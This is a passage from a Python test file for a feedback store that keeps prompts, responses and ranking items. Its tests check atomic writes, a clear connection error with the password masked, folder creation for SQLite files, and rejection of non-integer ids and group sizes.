    assert (tmp_path / "s.db").read_bytes() == before


def test_add_response_groups_writes_replies_and_items_or_nothing(store):
    assert len(store.add_response_groups(records())) == 2 and store.counts()["responses"] == 4
    with pytest.raises(ValueError, match="one prompt"):
        store.add_response_groups(records() + records(prompt="Other?"), size=3, kind="ranking")
    assert (store.counts()["responses"], store.counts()["items"]) == (4, 2)


def test_a_store_that_will_not_open_is_one_line_naming_what_to_check(tmp_path):
    import socket

    with socket.socket() as s:  # a port nobody listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    with pytest.raises(ConnectionError, match=rf"could not open the feedback store at postgresql\+psycopg://u:\*\*\*@"
                                              rf"127.0.0.1:{port}/x: .*is a PostgreSQL server running at "
                                              rf"127.0.0.1:{port}\?") as err:
        FeedbackStore(f"postgresql+psycopg://u:SECRET@127.0.0.1:{port}/x")  # SQLAlchemy's 20-frame error before
    assert "SECRET" not in str(err.value)
    url = f"sqlite:///{tmp_path / 'new' / 'folder' / 'f.db'}"  # a file's URL makes its folders, as its path does
    with FeedbackStore(url) as store:
        assert store.counts()["total"] == 0 and (tmp_path / "new" / "folder" / "f.db").is_file()


def test_ids_and_group_sizes_that_are_not_whole_numbers_are_said(store):
    with pytest.raises(ValueError, match="item id must be a whole number, got 'abc'"):
        store.get_item("abc")  # int("abc")'s words before
    with pytest.raises(ValueError, match="response id must be a whole number, got 2.5"):
        store.get_response(2.5)  # read as reply 2 before
    records = [dict(prompt="Hi?", response=r, model="m", iteration=0) for r in ("a", "b")]
    with pytest.raises(ValueError, match="size must be at least 1 .replies per item., got 0"):
        store.add_response_groups(records, size=0)
    assert store.counts()["responses"] == 0  # refused before anything was written
